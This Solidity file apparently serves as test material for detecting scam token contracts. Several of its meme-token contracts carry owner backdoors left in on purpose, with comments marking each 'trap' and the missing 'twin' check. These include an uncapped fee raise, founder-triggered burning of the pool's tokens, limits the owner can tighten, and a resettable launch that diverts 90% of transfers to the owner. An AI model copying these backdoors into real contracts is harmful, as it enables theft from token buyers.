// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8, IPair} from "./Base8.sol";
import {ERC20} from "@openzeppelin/contracts-4/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts-4/access/Ownable.sol";

/// In the manner of PEPE: a list and a rule of the first hours, and an owner who goes. In the trap he stays.
contract Frog is Ownable, ERC20 {
    bool public limited;
    uint256 public maxHoldingAmount;
    uint256 public minHoldingAmount;
    address public uniswapV2Pair;
    mapping(address => bool) public blacklists;

    constructor(uint256 _totalSupply) ERC20("Frog", "FRGG") {
        _mint(msg.sender, _totalSupply);
    }

    function blacklist(address _address, bool _isBlacklisting) external onlyOwner {
        blacklists[_address] = _isBlacklisting;
    }

    function setRule(bool _limited, address _pair, uint256 _max, uint256 _min) external onlyOwner {
        limited = _limited;
        uniswapV2Pair = _pair;
        maxHoldingAmount = _max;
        minHoldingAmount = _min;
    }

    function _beforeTokenTransfer(address from, address to, uint256 amount) internal virtual override {
        require(!blacklists[to] && !blacklists[from], "Blacklisted");
        if (uniswapV2Pair == address(0)) {
            require(from == owner() || to == owner(), "trading is not started");
            return;
        }
        if (limited && from == uniswapV2Pair)
            require(super.balanceOf(to) + amount <= maxHoldingAmount && super.balanceOf(to) + amount >= minHoldingAmount, "Forbid");
    }

    function burn(uint256 value) external {
        _burn(msg.sender, value);
    }
}

/// Sells what it has taken in the middle of a sale.
abstract contract Till is Base8 {
    bool internal inSwap;

    receive() external payable {}

    function swapOwn(uint256 amount, address to) internal {
        inSwap = true;
        _approve(address(this), ROUTER, amount);
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), WETH);
        (bool ok, ) = ROUTER.call(
            abi.encodeWithSignature(
                "swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)",
                amount, 0, path, to, block.timestamp
            )
        );
        require(ok, "swap");
        inSwap = false;
    }
}

/// What most launches of 2024 look like: a fee that falls with the purchases, three sales of the fee in a block, a wallet that may
/// lower what is left of it. In the trap it may raise it.
contract Meme24 is Till {
    address payable private _taxWallet;
    uint256 private _initialBuyTax = 20;
    uint256 private _initialSellTax = 20;
    uint256 private _finalBuyTax = 2;
    uint256 private _finalSellTax = 2;
    uint256 private _reduceBuyTaxAt = 6;
    uint256 private _reduceSellTaxAt = 6;
    uint256 private _preventSwapBefore = 6;
    uint256 private _buyCount = 0;
    uint256 public _maxTxAmount = 8_400_000 ether;
    uint256 public _maxWalletSize = 8_400_000 ether;
    uint256 public _taxSwapThreshold = 40_000 ether;
    uint256 public _maxTaxSwap = 4_000_000 ether;
    uint256 private sellCount = 0;
    uint256 private lastSellBlock = 0;
    bool private tradingOpen;
    mapping(address => bool) private _isExcludedFromFee;
    mapping(address => bool) private bots;

    constructor() Base8("Meme of the Year", "MEME24", 420_690_000) {
        _taxWallet = payable(msg.sender);
        _isExcludedFromFee[msg.sender] = _isExcludedFromFee[address(this)] = _isExcludedFromFee[_taxWallet] = true;
    }

    function openTrading() external onlyOwner {
        require(!tradingOpen, "trading is already open");
        tradingOpen = true;
    }

    function removeLimits() external onlyOwner {
        _maxTxAmount = totalSupply;
        _maxWalletSize = totalSupply;
    }

    function addBots(address[] memory bots_) public onlyOwner {
        for (uint256 i = 0; i < bots_.length; i++) bots[bots_[i]] = true;
    }

    function delBots(address[] memory notbot) public onlyOwner {
        for (uint256 i = 0; i < notbot.length; i++) bots[notbot[i]] = false;
    }

    function reduceFee(uint256 _newFee) external {
        require(msg.sender == _taxWallet);
        // twin: require(_newFee <= _finalBuyTax && _newFee <= _finalSellTax);
        _finalBuyTax = _newFee;
        _finalSellTax = _newFee;
    }

    function manualSwap() external {
        require(msg.sender == _taxWallet);
        if (_balances[address(this)] > 0) swapOwn(_balances[address(this)], address(this));
        _taxWallet.transfer(address(this).balance);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(amount > 0, "Transfer amount must be greater than zero");
        if (inSwap) return _move(from, to, amount);
        uint256 taxAmount = 0;
        if (from != _owner && to != _owner) {
            require(!bots[from] && !bots[to]);
            require(tradingOpen || _isExcludedFromFee[from], "not open");
            if (from == pair && to != ROUTER && !_isExcludedFromFee[to]) {
                require(amount <= _maxTxAmount, "Exceeds the _maxTxAmount.");
                require(_balances[to] + amount <= _maxWalletSize, "Exceeds the maxWalletSize.");
                _buyCount++;
            }
            if (from == pair) taxAmount = (amount * (_buyCount > _reduceBuyTaxAt ? _finalBuyTax : _initialBuyTax)) / 100;
            if (to == pair && from != address(this)) taxAmount = (amount * (_buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax)) / 100;
            if (_isExcludedFromFee[from] || _isExcludedFromFee[to]) taxAmount = 0;
            uint256 own = _balances[address(this)];
            if (to == pair && own > _taxSwapThreshold && _buyCount > _preventSwapBefore) {
                if (block.number > lastSellBlock) sellCount = 0;
                require(sellCount < 3, "Only 3 sells per block!");
                uint256 least = amount < own ? amount : own;
                swapOwn(least < _maxTaxSwap ? least : _maxTaxSwap, address(this));
                if (address(this).balance > 0) _taxWallet.transfer(address(this).balance);
                sellCount++;
                lastSellBlock = block.number;
            }
        }
        if (taxAmount > 0) _move(from, address(this), taxAmount);
        _move(from, to, amount - taxAmount);
    }
}

/// Burns a quarter of a percent of what the pool holds, once an hour, when somebody sells. Nobody is left to ask for more;
/// in the trap the founder is.
contract Furnace is Base8("Furnace Coal", "FCOAL", 100_000_000) {
    uint256 public lastLpBurnTime = block.timestamp;
    address private immutable founder = msg.sender; // trap
    bool private burning;

    function burnPool(uint256 points) private {
        uint256 amount = (_balances[pair] * points) / 10_000;
        lastLpBurnTime = block.timestamp;
        if (amount > 0) {
            _move(pair, address(0xdead), amount);
            IPair(pair).sync();
        }
    }

    function manualBurn(uint256 points) external { // trap {
        require(msg.sender == founder);
        burnPool(points);
    } // trap }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner && block.timestamp >= lastLpBurnTime + 1 hours) burnPool(25);
        _move(from, to, value);
    }
}

/// Takes three percent of a sale, sells them, and buys from the pool with what it got, for the burn address.
contract Phoenix is Till {
    uint256 public buyBackUpperLimit = 1 ether;
    bool public buyBackEnabled = true;

    constructor() Base8("Phoenix Ash", "PHNX", 100_000_000) {}

    function setBuybackUpperLimit(uint256 value) external onlyOwner {
        require(value <= 5 ether);
        buyBackUpperLimit = value;
    }

    function setBuyBackEnabled(bool to) external onlyOwner {
        buyBackEnabled = to;
    }

    function buyBack(uint256 amount) private {
        inSwap = true;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (WETH, address(this));
        (bool ok, ) = ROUTER.call{value: amount}(
            abi.encodeWithSignature(
                "swapExactETHForTokensSupportingFeeOnTransferTokens(uint256,address[],address,uint256)", 0, path, address(0xdead), block.timestamp
            )
        );
        ok;
        inSwap = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (inSwap || from == _owner || to == _owner || to != pair) return _move(from, to, value);
        uint256 own = _balances[address(this)];
        if (own >= totalSupply / 50_000) swapOwn(own, address(this));
        uint256 balance = address(this).balance;
        if (buyBackEnabled && balance > 0.1 ether) buyBack((balance > buyBackUpperLimit ? buyBackUpperLimit : balance) / 10);
        _move(from, address(this), (value * 3) / 100);
        _move(from, to, value - (value * 3) / 100);
    }
}

/// Counts holders and pays them from what it was sent, some with each transfer, as far as the gas goes.
contract Tracker {
    address public immutable token = msg.sender;
    uint256 public claimWait = 3600;
    uint256 public total;
    uint256 public perShare;
    uint256 public at;
    address[] public holders;
    mapping(address => uint256) public shares;
    mapping(address => uint256) public paid;
    mapping(address => uint256) public lastClaim;
    mapping(address => bool) public excluded;

    modifier own() {
        require(msg.sender == token);
        _;
    }

    receive() external payable {
        if (total > 0) perShare += (msg.value * 2 ** 64) / total;
    }

    function exclude(address who) external own {
        excluded[who] = true;
        set(who, 0);
    }

    function updateClaimWait(uint256 to) external own {
        require(to >= 3600 && to <= 86400, "between an hour and a day");
        claimWait = to;
    }

    function setBalance(address who, uint256 value) external own {
        if (!excluded[who]) set(who, value >= 1000 ether ? value : 0);
    }

    function set(address who, uint256 value) private {
        if (shares[who] == 0 && value > 0 && paid[who] == 0) holders.push(who);
        pay(who);
        total = total + value - shares[who];
        shares[who] = value;
        paid[who] = (value * perShare) / 2 ** 64;
    }

    function pay(address who) private {
        uint256 due = (shares[who] * perShare) / 2 ** 64;
        if (due <= paid[who]) return;
        uint256 value = due - paid[who];
        paid[who] = due;
        lastClaim[who] = block.timestamp;
        (bool ok, ) = who.call{value: value, gas: 3000}("");
        if (!ok) paid[who] -= value;
    }

    function process(uint256 gas) external own {
        uint256 used;
        uint256 left = gasleft();
        for (uint256 i; i < holders.length && used < gas; i++) {
            at = (at + 1) % holders.length;
            address who = holders[at];
            if (block.timestamp >= lastClaim[who] + claimWait) pay(who);
            used += left - gasleft();
            left = gasleft();
        }
    }
}

/// Dividends in coin of the chain, in the manner of the dividend tokens of 2021.
contract Babytoken is Till {
    Tracker public immutable tracker = new Tracker();
    uint256 public gasForProcessing = 300_000;
    uint256 public constant fee = 5;
    mapping(address => bool) public free;

    constructor() Base8("Babytoken", "BABYT", 1_000_000_000) {
        for (uint256 i; i < 5; i++) tracker.exclude([address(this), address(tracker), pair, ROUTER, address(0xdead)][i]);
        free[address(this)] = free[msg.sender] = true;
    }

    function updateGasForProcessing(uint256 to) external onlyOwner {
        require(to >= 200_000 && to <= 500_000, "between 200,000 and 500,000");
        gasForProcessing = to;
    }

    function updateClaimWait(uint256 to) external onlyOwner {
        tracker.updateClaimWait(to);
    }

    function excludeFromDividends(address who) external onlyOwner {
        tracker.exclude(who);
    }

    function excludeFromFees(address who, bool to) external onlyOwner {
        free[who] = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (value == 0 || inSwap) return _move(from, to, value);
        if (from != pair && !free[from] && !free[to] && _balances[address(this)] >= 200_000 ether) {
            swapOwn(200_000 ether, address(this));
            (bool ok, ) = address(tracker).call{value: address(this).balance}("");
            ok;
        }
        uint256 cut = free[from] || free[to] || (from != pair && to != pair) ? 0 : (value * fee) / 100;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
        try tracker.setBalance(from, _balances[from]) {} catch {}
        try tracker.setBalance(to, _balances[to]) {} catch {}
        try tracker.process(gasForProcessing) {} catch {}
    }
}

/// Limits of a wallet and of a transfer that can be loosened and not tightened; in the trap both.
contract Ratchet is Base8("Ratchet", "RTCH", 80_000_000) {
    uint256 public maxWallet = 1_600_000 ether;
    uint256 public maxTransfer = 800_000 ether;

    function setLimits(uint256 wallet, uint256 one) external onlyOwner {
        // twin: require(wallet >= maxWallet && one >= maxTransfer, "looser only");
        (maxWallet, maxTransfer) = (wallet, one);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _owner && to != _owner) {
            require(value <= maxTransfer, "max transfer");
            require(to == pair || _balances[to] + value <= maxWallet, "max wallet");
        }
        _move(from, to, value);
    }
}

/// Half of everything for those who come in the first five blocks. The start is told once; in the trap again and again.
contract Sunrise is Base8("Sunrise", "SNRS", 81_000_000) {
    uint256 public startBlock;

    function start() external onlyOwner {
        // twin: require(startBlock == 0, "once");
        startBlock = block.number;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _owner || to == _owner) return _move(from, to, value);
        require(startBlock != 0, "wait");
        uint256 cut = block.number < startBlock + 5 ? (value * 90) / 100 : 0;
        if (cut > 0) _move(from, _owner, cut);
        _move(from, to, value - cut);
    }
}

/// Trading began at a block that was written down at its birth.
contract Appointed is Base8("Appointed", "APPT", 82_000_000) {
    uint256 public immutable tradingBlock = block.number + 3;

    function _transfer(address from, address to, uint256 value) internal override {
        require(block.number >= tradingBlock || from == _owner, "not yet");
        _move(from, to, value);
    }
}

/// Whoever sends everything keeps a crumb of one part in ten thousand, so that he stays a holder.
contract Crumb is Base8("Crumb", "CRMB", 83_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        if (from != pair && value == _balances[from]) value -= value / 10_000;
        _move(from, to, value);
    }
}

/// Who sells on the day of his purchase pays eight percent, in the first week four, and then nothing.
contract Patience is Base8("Patience", "PTNC", 84_000_000) {
    mapping(address => uint256) public bought;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) bought[to] = block.timestamp;
        uint256 held = block.timestamp - bought[from];
        uint256 cut = to != pair || from == _owner || bought[from] == 0 || held > 7 days ? 0 : (value * (held < 1 days ? 8 : 4)) / 100;
        if (cut > 0) _move(from, address(0xdead), cut);
        _move(from, to, value - cut);
    }
}
